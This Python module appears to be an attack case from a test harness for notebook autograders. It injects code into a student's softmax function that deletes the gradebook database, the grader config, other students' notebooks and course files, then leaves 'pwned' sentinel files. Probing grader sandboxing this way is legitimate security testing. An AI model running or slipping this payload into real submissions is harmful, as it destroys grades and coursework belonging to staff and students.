"""Write and delete files outside the submission: the gradebook, nbgrader_config.py, the home folder, /tmp."""

ZERO = {"softmax", "scaled_dot_product_attention", "SelfAttention"}  # the wrong softmax sinks the two that use it
SENTINELS = ("~/autograder-attack-was-here", "/tmp/autograder-attack-was-here")


def apply(nb, kit):
    kit.replace(
        "softmax",
        kit.WRONG
        + (
            "import glob, os\n"
            f"for pattern in ['../../../gradebook.db', '../../../nbgrader_config.py', '../../*/*/*.ipynb', {kit.course_root!r} + '/*', {kit.course_root!r} + '/*/*/*/*.ipynb']:\n"
            "    for path in glob.glob(pattern, recursive=True):\n"
            "        try:\n"
            "            os.remove(path)\n"
            "        except OSError:\n"
            "            pass\n"
            "for path in ['~/autograder-attack-was-here', '/tmp/autograder-attack-was-here']:\n"
            "    try:\n"
            "        open(os.path.expanduser(path), 'w').write('pwned')\n"
            "    except OSError:\n"
            "        pass\n"
        ),
    )
